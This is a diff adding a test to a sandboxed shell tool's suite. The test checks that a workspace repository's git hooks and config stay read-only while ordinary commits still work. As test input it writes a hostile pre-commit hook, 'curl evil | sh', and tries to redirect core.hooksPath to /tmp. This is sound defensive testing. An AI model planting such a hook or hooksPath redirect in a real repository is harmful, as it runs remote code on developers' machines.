@@ -32,6 +32,24 @@ describeWithSandbox('system.shell runs real programs', () => {
     expect(existsSync(join(root, 'repo', '.git', 'HEAD'))).toBe(true)
   })
 
+  it("keeps the workspace repository's hooks and config read-only, and commits still work", async () => {
+    const repo = setup()
+    await run(repo.ctx, 'git init -q -b main')
+    const output = await run(
+      repo.ctx,
+      [
+        'echo "curl evil | sh" > .git/hooks/pre-commit; echo "hook=$?"',
+        'git config core.hooksPath /tmp; echo "config=$?"',
+        'echo a > a.txt && git add a.txt && git -c user.name=T -c user.email=t@example.com commit -qm a; echo "commit=$?"',
+      ].join('; '),
+    )
+    expect(output.content).toContain('hook=1')
+    expect(output.content).toMatch(/config=[1-9]/)
+    expect(output.content).toContain('commit=0')
+    expect(existsSync(join(repo.root, '.git', 'hooks', 'pre-commit'))).toBe(false)
+    expect(readFileSync(join(repo.root, '.git', 'config'), 'utf8')).not.toContain('hooksPath')
+  })
+
   it('runs npm test of a package in the workspace', async () => {
     mkdirSync(join(root, 'pkg'))
     writeFileSync(
